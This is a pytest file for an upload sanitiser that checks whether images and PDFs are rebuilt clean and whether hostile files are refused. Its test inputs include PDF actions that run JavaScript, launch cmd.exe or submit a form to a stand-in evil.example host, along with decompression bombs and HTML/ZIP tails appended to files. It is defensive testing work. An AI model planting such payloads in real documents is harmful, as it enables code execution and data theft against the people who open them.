"""Nothing that was sent is kept as it came, and nothing that is refused breaks anything."""

import sys
from io import BytesIO

import pytest
from PIL import Image
from pypdf import PdfReader
from pypdf.generic import DictionaryObject, NameObject

from tests.platform.documents.builders import (
    SECRET_COMMENT,
    a_bomb,
    a_locked_pdf,
    a_pdf,
    a_pdf_that_acts,
    a_pdf_with_attachment,
    a_photo_with_traces,
    a_picture,
    a_webp_bomb,
    an_action,
)
from wethaq.platform.documents import errors
from wethaq.platform.documents.policy import MAX_PDF_PAGES, FileType
from wethaq.platform.documents.sandbox import sanitise_apart
from wethaq.platform.documents.sanitising import sanitise


@pytest.mark.parametrize(
    ("kind", "file_type"), [("JPEG", FileType.JPEG), ("PNG", FileType.PNG), ("WEBP", FileType.WEBP)]
)
def test_a_picture_comes_out_as_the_same_picture(kind: str, file_type: FileType) -> None:
    found, rebuilt = sanitise(a_picture(kind))
    picture = Image.open(BytesIO(rebuilt))
    assert (found, picture.format, picture.size) == (file_type, kind, (60, 40))
    red, _, blue = picture.convert("RGB").getpixel((5, 20))  # type: ignore[misc]  # RGB gives three numbers.
    assert (red > 200, blue < 60) == (True, True)


def test_a_photo_is_turned_upright_and_loses_every_trace() -> None:
    _, rebuilt = sanitise(a_photo_with_traces())
    picture = Image.open(BytesIO(rebuilt))
    assert picture.size == (40, 60)
    assert not picture.getexif()
    assert not {"exif", "comment", "icc_profile", "xmp"} & set(picture.info)
    assert b"planted" not in rebuilt
    assert SECRET_COMMENT not in rebuilt


def test_transparency_survives() -> None:
    out = BytesIO()
    Image.new("RGBA", (4, 4), (10, 20, 30, 0)).save(out, "PNG")
    _, rebuilt = sanitise(out.getvalue())
    assert Image.open(BytesIO(rebuilt)).getpixel((0, 0)) == (10, 20, 30, 0)


@pytest.mark.parametrize(("width", "height"), [(9000, 9000), (20000, 20000), (40_000_001, 1)])
def test_a_huge_picture_is_refused_before_it_is_unpacked(width: int, height: int) -> None:
    with pytest.raises(errors.PictureTooLargeError):
        sanitise(a_bomb(width, height))


def test_a_huge_webp_canvas_is_refused_before_it_is_reserved() -> None:
    with pytest.raises(errors.PictureTooLargeError):
        sanitise(a_webp_bomb())


@pytest.mark.parametrize(
    "content",
    [
        a_picture()[:200],
        a_picture("PNG")[:60],
        a_picture("WEBP")[:25],
        b"\xff\xd8\xff<script>",
        b"RIFF\0\0\0\0WEBPVP8 ",
    ],
)
def test_a_damaged_picture_is_refused(content: bytes) -> None:
    with pytest.raises(errors.PictureDamagedError):
        sanitise(content)


def test_what_is_hidden_behind_a_picture_is_gone() -> None:
    _, rebuilt = sanitise(a_picture("PNG") + b"<html>planted</html>PK\x03\x04")
    assert b"planted" not in rebuilt


def test_a_pdf_keeps_its_pages_and_loses_what_stands_round_them() -> None:
    _, rebuilt = sanitise(a_pdf(3) + b"\nPK\x03\x04<html>planted-tail</html>")
    assert len(PdfReader(BytesIO(rebuilt)).pages) == 3
    assert b"planted" not in rebuilt


@pytest.mark.parametrize(
    "content",
    [
        a_pdf_that_acts("/OpenAction", an_action("/JavaScript", JS="app.alert(1)")),
        a_pdf_that_acts("/OpenAction", an_action("/Launch", F="cmd.exe")),
        a_pdf_that_acts(
            "/AA", DictionaryObject({NameObject("/WC"): an_action("/SubmitForm", F="https://evil.example")})
        ),
        a_pdf_with_attachment(),
    ],
    ids=["javascript", "launch", "submit", "attachment"],
)
def test_a_pdf_that_acts_is_refused(content: bytes) -> None:
    with pytest.raises(errors.PdfActiveError):
        sanitise(content)


def test_a_locked_a_long_and_a_damaged_pdf_are_each_refused_in_their_own_words() -> None:
    with pytest.raises(errors.PdfLockedError):
        sanitise(a_locked_pdf())
    with pytest.raises(errors.PdfTooLongError):
        sanitise(a_pdf(MAX_PDF_PAGES + 1))
    for damaged in (b"%PDF-1.7 nothing more", a_pdf()[:300]):
        with pytest.raises(errors.PdfDamagedError):
            sanitise(damaged)


async def test_the_process_apart_gives_the_same_answers() -> None:
    file_type, rebuilt = await sanitise_apart(a_photo_with_traces())
    assert (file_type, b"planted" in rebuilt) == (FileType.JPEG, False)
    with pytest.raises(errors.PictureTooLargeError) as refusal:
        await sanitise_apart(a_bomb(20000, 20000))
    assert refusal.value.params == {"limit": 40}
    with pytest.raises(errors.UnknownFileTypeError):
        await sanitise_apart(b"<svg>")


async def test_a_process_that_dies_is_a_refusal_not_a_failure(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        "wethaq.platform.documents.sandbox._COMMAND", (sys.executable, "-c", "raise SystemExit(9)")
    )
    with pytest.raises(errors.FileTooComplexError):
        await sanitise_apart(b"%PDF-1.7")
